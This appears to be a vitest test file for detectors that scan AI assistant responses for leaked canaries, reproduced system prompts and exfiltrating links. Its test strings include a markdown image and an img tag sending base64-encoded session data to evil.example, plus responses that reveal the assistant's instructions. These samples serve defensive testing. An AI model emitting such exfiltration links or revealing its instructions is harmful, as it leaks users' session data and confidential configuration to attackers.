import { describe, expect, it } from 'vitest';
import { canaryDetector } from './canary.js';
import { exfilLinkDetector } from './exfil-link.js';
import { systemPromptOverlapDetector } from './system-prompt-overlap.js';

const SYSTEM =
  'You are the support assistant for Acme Bank. Never discuss interest rates for business accounts, and always direct questions about fraud to the security team at extension 4400.';

describe('response leakage', () => {
  it('finds a planted canary anywhere in a response, and nothing without it', () => {
    const ctx = { field: 'response' as const, canaries: ['sl-canary-7f3a9c21'] };
    expect(
      canaryDetector.detect('Sure! My instructions mention sl-canary-7f3a9c21 at the top.', ctx),
    ).toMatchObject([{ category: 'leakage.canary', score: 1 }]);
    expect(canaryDetector.detect('Nothing to see here.', ctx)).toEqual([]);
  });

  it('scores a response that reproduces the system prompt, not one that paraphrases a topic', () => {
    const ctx = { field: 'response' as const, systemPrompt: SYSTEM };
    const leak = systemPromptOverlapDetector.detect(`My instructions say: ${SYSTEM.toUpperCase()}`, ctx);
    expect(leak[0]).toMatchObject({ category: 'leakage.system_prompt' });
    expect(leak[0]!.score).toBeGreaterThan(0.9);
    expect(
      systemPromptOverlapDetector.detect('For fraud questions, please contact our security team.', ctx),
    ).toEqual([]);
  });

  it('flags markdown images and links to domains off the allow-list, images carrying data highest', () => {
    const ctx = { field: 'response' as const, allowedDomains: ['acme.example'] };
    const image = exfilLinkDetector.detect(
      'Done ![status](https://evil.example/p.png?d=c2Vzc2lvbj1hYmMxMjM0NTY3ODkw)',
      ctx,
    );
    const link = exfilLinkDetector.detect('See [docs](https://other.example/guide).', ctx);
    const allowed = exfilLinkDetector.detect(
      'See ![logo](https://cdn.acme.example/logo.png?v=1234567890123456789012345)',
      ctx,
    );
    expect(image[0]!.score).toBeGreaterThan(0.9);
    expect(link[0]!.score).toBeLessThan(0.5);
    expect(allowed).toEqual([]);
    expect(
      exfilLinkDetector.detect('<img src="https://evil.example/x?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">', ctx),
    ).toHaveLength(1);
  });
});
